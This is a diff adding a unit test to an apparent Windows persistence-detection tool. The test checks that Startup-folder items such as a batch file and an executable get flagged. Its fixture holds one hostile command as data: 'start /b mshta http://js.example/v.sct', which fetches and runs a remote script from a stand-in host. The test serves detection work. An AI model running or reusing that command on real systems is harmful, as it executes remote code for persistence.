@@ -147,5 +147,22 @@ TEST(TaskJobCorpus, PublicJobParsesCompletely) {
   EXPECT_FALSE(job->hidden());
 }
 
+TEST(StartupFolder, ScriptsAndProgramsThereAreFindings) {
+  std::vector<model::Event> events;
+  const std::string dir = "C/Users/bob/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/";
+  normalize::startup_item_events(as_bytes(std::string("@echo off\r\nstart /b mshta http://js.example/v.sct\r\n")), dir + "up.bat", events);
+  normalize::startup_item_events(as_bytes(std::string("MZ")), dir + "helper.exe", events);
+  normalize::startup_item_events(as_bytes(std::string("L\0\0\0")), dir + "OneNote.lnk", events);
+  normalize::startup_item_events(as_bytes(std::string("[.ShellClassInfo]")), dir + "desktop.ini", events);
+  ASSERT_EQ(events.size(), 3u);  // desktop.ini is the folder's own
+  EXPECT_EQ(events[0].value("CommandLine"), "start /b mshta http://js.example/v.sct");
+  std::vector<model::Finding> found;
+  detect::heuristics::make_windows_persistence_engine()->scan_artefact({"Startup", "", "startup_item", "", "", events}, found);
+  ASSERT_EQ(found.size(), 2u);  // the shortcut is left to the knowledge base
+  EXPECT_EQ(found[0].severity, model::Severity::High);
+  EXPECT_EQ(found[0].title_en, "Startup folder runs up.bat (mshta fetching a remote script)");
+  EXPECT_EQ(found[1].severity, model::Severity::Medium);
+}
+
 }  // namespace
 }  // namespace msw::formats::task_xml
